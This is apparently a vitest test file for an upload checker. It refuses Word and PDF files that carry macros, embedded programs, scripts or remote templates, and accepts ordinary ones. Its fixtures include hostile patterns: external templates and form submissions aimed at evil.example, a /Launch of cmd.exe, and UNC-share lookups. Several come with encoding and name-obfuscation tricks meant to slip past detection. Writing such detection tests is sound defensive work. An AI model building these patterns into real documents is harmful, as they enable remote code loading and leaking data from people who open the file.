import { gzipSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import { checkContent } from "@/lib/documents/content/content";
import { activePdf, activeWord } from "@/lib/documents/limits";
import { makeDocx as makeDemoDocx } from "@/prisma/demo/papers/docx";
import { makeDocx, makePdf, makeZip, type ZipEntry } from "../support/document-files";

/* Files that run code, contain another file, or load something from elsewhere when staff open them. */

const word = { mimeType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document" };
const pdf = { mimeType: "application/pdf" };
const judge = (bytes: Buffer, name = "statement.docx") => checkContent(name, bytes);

const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
type Link = { type: string; target?: string; mode?: "External" | "Internal" };
const link = ({ type, target = "http://evil.example/t.dotm", mode }: Link) =>
  `<Relationship Id="rId1" Type="${office}/${type}" Target="${target}"${mode ? ` TargetMode="${mode}"` : ""}/>`;
const linked = (...links: Link[]) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${links.map(link).join("")}</Relationships>`;
const rels = (content: string | Buffer, name = "word/_rels/document.xml.rels"): ZipEntry => ({ name, content });
const template: Link = { type: "attachedTemplate", mode: "External" };

/** A .docx with one more line in its content types. */
function ofKinds(line: string): Buffer {
  const types = `<?xml version="1.0"?><Types>${line}<Default Extension="xml" ContentType="application/xml"/></Types>`;
  return makeZip([
    { name: "[Content_Types].xml", content: types },
    { name: "word/document.xml", content: "<w:document/>" },
  ]);
}

describe("a Word file is refused, with advice,", () => {
  const hostile: [string, () => Buffer][] = [
    ["with a template from elsewhere", () => makeDocx([rels(linked(template), "word/_rels/settings.xml.rels")])],
    ["the same in other letters", () => makeDocx([rels(linked(template), "word/_RELS/settings.xml.RELS")])],
    [
      "the same, its mode written in numbers",
      () => makeDocx([rels(linked(template).replace('"External"', '"&#69;xternal"'))]),
    ],
    ["the same in UTF-16", () => makeDocx([rels(Buffer.from(`\ufeff${linked(template)}`, "utf16le"))])],
    [
      "the same in UTF-16, the other way round",
      () => makeDocx([rels(Buffer.from(`\ufeff${linked(template)}`, "utf16le").swap16())]),
    ],
    [
      "the same in a writing that is read as another",
      () => makeDocx([rels(linked(template).replace("UTF-8", "UTF-7"))]),
    ],
    [
      "the same under a prefix",
      () => makeDocx([rels(linked(template).replaceAll("<Relationship ", "<pkg:Relationship "))]),
    ],
    [
      "the same behind a sign that ends a tag elsewhere",
      () => makeDocx([rels(linked({ ...template, target: "http://evil.example/>" }))]),
    ],
    ["the same behind a word of its own", () => makeDocx([rels(`<!DOCTYPE a [<!ENTITY x "External">]>${linked()}`)])],
    [
      "with a list that cannot be read",
      () => makeDocx([rels(linked(template).replace("TargetMode=", "x<y TargetMode="))]),
    ],
    ...["file://server/share/t.dotm", "file:////server/t.dotm", "\\\\server\\t.dotm", "//server/t.dotm"].map(
      (target): [string, () => Buffer] => [
        `with a template on another computer: ${target}`,
        () => makeDocx([rels(linked({ ...template, target }))]),
      ],
    ),
    ["with a picture from elsewhere", () => makeDocx([rels(linked({ type: "image", mode: "External" }))])],
    ["with a page that is taken in whole", () => makeDocx([rels(linked({ type: "aFChunk", target: "a.mht" }))])],
    ["with an object", () => makeDocx([rels(linked({ type: "oleObject", target: "embeddings/o.bin" }))])],
    [
      "with a file of another program",
      () => makeDocx([rels(linked({ type: "package", target: "embeddings/a.xlsx" }))]),
    ],
    ["with macros under another name", () => makeDocx([rels(linked({ type: "vbaProject", target: "foo.bin" }))])],
    [
      "with macros by their kind",
      () => ofKinds('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
    ],
    [
      "whose text is one with macros",
      () =>
        ofKinds(
          "<Override PartName='/word/document.xml' ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/>",
        ),
    ],
    ["with macros", () => makeDocx([{ name: "word/vbaProject.bin" }])],
    ["with macros under other letters", () => makeDocx([{ name: "WORD/VBAPROJECT.BIN" }])],
    ["with a program", () => makeDocx([{ name: "word/media/a.exe", content: "MZ" }])],
    ["with a program under another name", () => makeDocx([{ name: "word/media/a.bin", content: "MZ\x90\0" }])],
    [
      "with an object that nothing names",
      () => makeDocx([{ name: "word/foo.bin", content: Buffer.from("d0cf11e0a1b11ae100", "hex") }]),
    ],
    ["with an archive in it", () => makeDocx([{ name: "word/embeddings/a.xlsx", content: makeZip([{ name: "a" }]) }])],
  ];
  test.each(hostile)("%s", async (_, bytes) => {
    expect(await judge(bytes())).toEqual({ refusal: activeWord });
  });
});

describe("an ordinary Word file is accepted,", () => {
  const ordinary: [string, () => Buffer][] = [
    ["as our demo writes it", () => makeDemoDocx(["Statement of purpose", "I want to study in Leeds."])],
    [
      "with links and pictures of its own",
      () =>
        makeDocx([
          rels(
            linked(
              { type: "hyperlink", target: "https://example.com/?a=1&amp;b=2", mode: "External" },
              { type: "hyperlink", target: "mailto:me@example.com", mode: "External" },
              { type: "image", target: "media/image1.png" },
              { type: "styles", target: "styles.xml", mode: "Internal" },
              { type: "fontTable", target: "fontTable.xml" },
            ),
          ),
          { name: "word/media/image1.png" },
          { name: "word/media/image2.emz", content: gzipSync("picture") },
          { name: "word/fonts/Lato-regular.ttf", content: Buffer.from("00010000", "hex") },
        ]),
    ],
    ...[
      "file:///C:\\Users\\Ali%20Raza\\AppData\\Roaming\\Microsoft\\Templates\\Modern%20resume.dotx",
      "file:///C:/Users/Ali/Templates/cv.dotx",
      "file:///Users/ali/Library/Templates/cv.dotx",
      "Normal.dotm",
      "C:\\Templates\\cv.dotx",
    ].map((target): [string, () => Buffer] => [
      `written with a template of one's own: ${target}`,
      () => makeDocx([rels(linked({ ...template, target }), "word/_rels/settings.xml.rels")]),
    ]),
    [
      "with the settings of a printer",
      () =>
        makeDocx([
          rels(linked({ type: "printerSettings", target: "printerSettings1.bin" })),
          { name: "word/printerSettings1.bin", content: "\\\0\\\0s\0e\0r\0v\0e\0r\0" },
        ]),
    ],
    ["with lists in UTF-16", () => makeDocx([rels(Buffer.from(`\ufeff${linked()}`, "utf16le"))])],
    ["without any links", () => makeDocx([rels("<Relationships/>")])],
  ];
  test.each(ordinary)("%s", async (_, bytes) => {
    expect(await judge(bytes())).toEqual(word);
  });
});

test("a directory full of opening tags is parsed in no time", async () => {
  for (const piece of ["<Relationship ", "<Relationship a", '<Relationship a="', "<Relationship a=''", "<a:", " "]) {
    const content = piece.repeat(1_000_000 / piece.length);
    const begin = performance.now();
    await judge(makeDocx([rels(content), { name: "word/media/a.png", content: Buffer.from(noise) }]));
    expect(performance.now() - begin).toBeLessThan(3000);
  }
});
const noise = Array.from({ length: 50_000 }, (_, index) => (index * 7919 * (index % 251)) % 256);

/** A PDF with an additional entry in its catalog. */
function withCatalogue(more: string): Buffer {
  const text = makePdf().toString("latin1").replace("/Pages 2 0 R", `/Pages 2 0 R ${more}`);
  const place = text.lastIndexOf("xref\n0 4");
  return Buffer.from(text.replace(/startxref\n\d+/, `startxref\n${place}`), "latin1");
}

describe("a PDF is refused, with advice,", () => {
  test.each([
    ["with a script", "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"],
    ["with a script, its name in numbers", "/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"],
    ["with a script without blanks", "/OpenAction<</S/JavaScript/JS 5 0 R>>"],
    ["with named scripts", "/Names << /JavaScript 7 0 R >>"],
    ["with a program that it starts", "/OpenAction << /S /Launch /F (cmd.exe) >>"],
    ["with files in it", "/Names << /EmbeddedFiles << /Names [(x.exe) 9 0 R] >> >>"],
    ["with a file in it", "/X << /Type /EmbeddedFile /Length 0 >>"],
    ["with an attachment", "/Annots [<< /Subtype /FileAttachment /FS << /F (x.exe) /EF << /F 9 0 R >> >> >>]"],
    [
      "that opens a file from elsewhere",
      "/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>",
    ],
    ["that opens a web page by itself", "/OpenAction << /Type /Action /S /URI /URI (https://evil.example/) >>"],
    ["that opens a file in another", "/OpenAction << /S /GoToE /T << /R /C >> >>"],
    ["that sends its form", "/AA << /WC << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >> >>"],
    ["that sends its form, in letters and numbers", "/A<</S/Submit#46orm/F(https://evil.example/)>>"],
    ["that takes data in", "/OpenAction << /S /ImportData /F (data.fdf) >>"],
    ["with a form of XFA", "/AcroForm << /Fields [] /XFA [(template) 5 0 R (datasets) 6 0 R] >>"],
    ["with a form of XFA in one piece", "/AcroForm << /Fields [] /XFA 5 0 R >>"],
    ["with rich media", "/Annots [<< /Type /Annot /Subtype /RichMedia /RichMediaContent 7 0 R >>]"],
    ["with a model in space", "/Annots [<< /Type /Annot /Subtype /3D /3DD 7 0 R >>]"],
    ["that plays something", "/OpenAction << /S /Rendition /OP 0 >>"],
  ])("%s", async (_, more) => {
    expect(await judge(withCatalogue(more), "passport.pdf")).toEqual({ refusal: activePdf });
  });
});

test.each([
  ["opens at a place", "/OpenAction [3 0 R /XYZ null null 0]"],
  ["opens at a place, by an action", "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"],
  ["has links", "/A << /S /URI /URI (https://example.com/JavaScript) >>"],
  ["has a form", "/AcroForm << /Fields [<< /FT /Tx /T (Family name) /V (Khan) >>] /NeedAppearances true >>"],
  ["clears its form", "/A << /S /ResetForm /Fields [] >>"],
  ["links to pages and mail", "/A << /S /URI /URI (mailto:me@example.com?subject=/S /Form) >>"],
  ["has fonts and parts with short names", "/Font << /EF 5 0 R /XF 6 0 R >> /K << /S /Sect /P 7 0 R >>"],
  ["speaks of forms and files", "/Title (How to use XFA [2] and /EF, SubmitForm, GoToR) /Keywords (/RichMedia, /XFA)"],
  ["speaks of scripts", "/Title (CV: HTML/CSS/JavaScript, Launch /JavaScript) /Keywords (JS/JavaScript 5 years)"],
  ["is PDF/A by its notes", "/Metadata 4 0 R /Lang (en-GB) /MarkInfo << /Marked true >>"],
])("an ordinary PDF that %s is accepted", async (_, more) => {
  expect(await judge(withCatalogue(more), "passport.pdf")).toEqual(pdf);
});

test("a large PDF of blanks and names is parsed in no time", async () => {
  for (const piece of ["/S ", "/S", "/EmbeddedFiles 1", "/OpenAction << ", "/JavaScript 11111111111", " "]) {
    const begin = performance.now();
    await judge(withCatalogue(piece.repeat(5_000_000 / piece.length)), "passport.pdf");
    expect(performance.now() - begin).toBeLessThan(3000);
  }
});
